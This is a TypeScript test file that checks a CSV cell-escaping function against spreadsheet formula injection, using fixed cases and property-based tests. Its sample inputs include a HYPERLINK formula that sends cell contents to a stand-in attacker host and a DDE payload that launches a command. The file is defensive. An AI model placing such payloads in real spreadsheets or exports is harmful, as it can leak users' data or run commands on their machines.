import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { csvCell } from '../src/index.js'
import { hostileText } from './steering.js'

// Cells a spreadsheet would evaluate, as OWASP's CSV injection page lists them.
const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
]

const record = (cells: string[]) => `${cells.map(csvCell).join(',')}\r\n`
const parsed = (cells: string[]) => parse(record(cells), { relax_quotes: false }) as string[][]

describe('csvCell', () => {
  test('the exact fields written', () => {
    expect(formulas.map(csvCell)).toEqual([
      `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)",
      "'\t=1+1",
      `"'\r=1+1"`,
    ])
    expect(['China', 'a, b', 'say "hi"', 'two\nlines', '', '90'].map(csvCell)).toEqual([
      'China',
      '"a, b"',
      '"say ""hi"""',
      '"two\nlines"',
      '',
      '90',
    ])
  })

  test('a formula reads back as the same text behind a single quote: text to a spreadsheet', () => {
    const [cells] = parsed(formulas)
    expect(cells).toEqual(formulas.map((formula) => `'${formula}`))
  })

  test('a formula character later in the cell is left alone', () => {
    expect(csvCell('1-2')).toBe('1-2')
    expect(csvCell('user@example.com')).toBe('user@example.com')
    expect(csvCell(' =1')).toBe(' =1')
  })

  test('any text parses back to itself, or to itself behind a quote when it starts a formula', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 5 }), (cells) => {
        // A record of one empty field is an empty line, which CSV readers skip.
        fc.pre(cells.length > 1 || cells[0] !== '')
        const [read] = parsed(cells)
        expect(read).toEqual(cells.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)))
        for (const cell of read!) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      }),
    )
  })
})
